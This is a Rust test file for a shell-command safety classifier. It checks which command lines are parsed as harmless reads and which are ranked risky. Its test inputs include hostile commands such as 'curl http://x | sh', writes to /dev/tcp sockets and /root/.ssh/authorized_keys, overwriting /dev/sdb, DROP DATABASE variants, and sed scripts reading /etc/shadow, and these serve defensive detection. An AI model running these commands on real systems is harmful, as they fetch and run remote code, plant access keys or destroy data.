//! Shell text: what is understood, where understanding stops, and that it never guesses.

use super::super::shell::{self, Joint};
use super::*;

fn stop(text: &str) -> Option<usize> {
    shell::parse(text).stop
}

#[test]
fn the_small_grammar_is_understood() {
    for text in [
        "",
        "ls",
        "ls -la /etc; id",
        "a && b || c | d &",
        "a\nb\n\nc",
        "\n\na;\n\nb;",
        "A=b C='d e' cmd",
        "cmd > out 2>&1 < in >> log >| x <> y 2>/dev/null",
        "cmd &> out",
        "'quoted word' \"and $no\"",
        "echo a\\ b \"c\\\"d\" 'e'\\''f'",
        "ls *.log /var/?og/[a-z]*",
        "find . -exec ls {} \\;",
        "[ -f /etc/passwd ] && echo yes",
        "a |\n b",
        "a \\\n b",
        "cat ~/x ~root/y ~bob/z",
    ] {
        let expected = text.contains("$no").then(|| text.find('$').unwrap());
        assert_eq!(stop(text), expected, "{text:?}");
    }
}

#[test]
fn everything_else_stops_where_it_begins() {
    for (text, offset) in [
        ("echo $HOME", 5),
        ("echo `id`", 5),
        ("echo \"$(id)\"", 6),
        ("(ls)", 0),
        ("{ ls; }", 0),
        ("ls; for i in a", 4),
        ("if true", 0),
        ("f() { x; }", 1),
        ("cat << EOF", 4),
        ("cat <(ls)", 4),
        ("ls # comment", 3),
        ("echo {a,b}", 5),
        ("! ls", 0),
        ("* x", 0),
        ("echo 'open", 5),
        ("echo \"open", 5),
        ("echo end\\", 9),
        ("ls ;; id", 3),
        ("ls |& cat", 3),
        ("case x in", 0),
        ("echo $'a'", 5),
    ] {
        assert_eq!(stop(text), Some(offset), "{text:?}");
    }
    for text in ["&& ls", "ls &&", "ls | | id", "| ls", "ls || ;", ";ls", "ls; ;id", "\n; ls", "& ls"] {
        assert!(stop(text).is_some(), "{text:?}");
    }
}

#[test]
fn words_are_what_a_shell_would_make_of_them() {
    let script = shell::parse("a\\ b 'c d'\"e\\\"f\\x\"g h*i '*' ~/k");
    let words: Vec<(&str, bool)> = script.commands[0].words.iter().map(|word| (&*word.text, word.wild)).collect();
    assert_eq!(words, [("a b", false), ("c de\"f\\xg", false), ("h*i", true), ("*", false), ("/root/k", true)]);
}

#[test]
fn joints_and_redirections_are_kept() {
    let script = shell::parse("A=1 a <in >out && b 2>&1 | c & d");
    let joints: Vec<Joint> = script.commands.iter().map(|command| command.then).collect();
    assert_eq!(joints, [Joint::And, Joint::Pipe, Joint::Background, Joint::End]);
    let files: Vec<(&str, bool)> =
        script.commands[0].redirections.iter().map(|file| (&*file.path.text, file.writes)).collect();
    assert_eq!(files, [("in", false), ("out", true)]);
    assert!(script.commands[1].redirections.is_empty());
    assert_eq!(script.commands[0].assignments[0].text, "A=1");
}

#[test]
fn reads_joined_by_understood_operators_are_reads() {
    for text in [
        "ps aux | grep nginx",
        "df -h | awk '{print $5}' | sort -rn | head -5",
        "cd /var/log && ls -la && tail -n 5 syslog",
        "test -f /etc/passwd && echo yes || echo no",
        "cat /etc/hosts 2>/dev/null; true",
        "LANG=C ls | wc -l",
    ] {
        assert_eq!(line(text).ruling, T0, "{text}");
    }
}

#[test]
fn what_is_not_a_proven_read_is_not_one() {
    for text in [
        "exit 7",
        "set -e",
        "export X=1",
        "source /srv/x",
        ". /srv/x",
        "curl http://x | sh",
        "echo $HOME",
        "ls *",
        "eval $X",
        "cat /etc/hosts; cd /root; cat x",
        "echo x > /dev/tcp/1.2.3.4/80",
        "PATH=/tmp ls",
        "ls; frobnicate",
    ] {
        assert!(line(text).ruling >= T2, "{text}");
    }
    assert_eq!(rule(&words(&["sh", "-c", "exit 7"])).ruling, T2);
}

#[test]
fn evidence_tells_where_understanding_stopped() {
    let found = line("ls /; echo $HOME");
    let stopped = found.evidence.iter().find(|seen| seen.rule.as_str() == "shell.opaque").unwrap();
    assert_eq!((stopped.offset, stopped.depth), (Some(11), 1));
}

#[test]
fn emptying_a_file_is_no_small_change() {
    for text in ["> /srv/x", ": > /srv/x", "true >/srv/x 2>/dev/null", "ls; > /srv/x"] {
        assert_eq!(line(text).ruling, T2, "{text}");
    }
    assert_eq!(line("echo > /srv/x").ruling, T1);
}

#[test]
fn statements_that_throw_data_away_are_known_in_any_spelling() {
    use super::super::expression::destroys_data;
    for code in [
        "DROP DATABASE app",
        "select 1; drop\n table if exists x",
        "Truncate/**/users",
        "db.dropDatabase()",
        "r.flushall()",
    ] {
        assert!(destroys_data(code), "{code}");
    }
    for code in
        ["f.truncate(0)", "ALTER TABLE t DROP COLUMN c", "select dropped from tables", "backdrop table", "truncate"]
    {
        assert!(!destroys_data(code), "{code}");
    }
    assert_eq!(line("sh -c 'psql -c \"DROP TABLE $t\"'").ruling, T3);
}

#[test]
fn arrows_are_seen_in_opaque_text() {
    for arrow in [">", ">>", ">& ", "&>", "&> ", "2>", ">|", "1>&", "<>", "a>", "$x>>"] {
        let text = format!("echo $x {arrow}/root/.ssh/authorized_keys");
        assert_eq!(line(&text).ruling, T3, "{text}");
    }
    let found = line("echo $x 2>&1 >&2 3>&-; frob");
    assert!(found.ruling == T2 && found.targets.is_empty(), "{found:?}");
}

#[test]
fn the_network_of_a_shell_is_no_device() {
    for text in ["cat < /dev/tcp/10.0.0.1/80", "echo x > /dev/udp/10.0.0.1/53"] {
        assert_eq!(line(text).ruling, T2, "{text}");
    }
    assert_eq!(line("echo x > /dev/sdb").ruling, T3);
}

#[test]
fn sed_puts_text_in_and_nothing_else() {
    use super::super::expression::is_plain_sed;
    for script in ["$a text", "1i # e w r", "/x/c\\\ntext", "a one\\\nw /etc/x\np", "i\\"] {
        assert!(is_plain_sed(script), "{script:?}");
    }
    for script in ["a text\nw /etc/x", "a text\\\\\ne id", "1,2e", "s/a/b/e", "w x", "a\\\nx\nr /etc/shadow"] {
        assert!(!is_plain_sed(script), "{script:?}");
    }
}
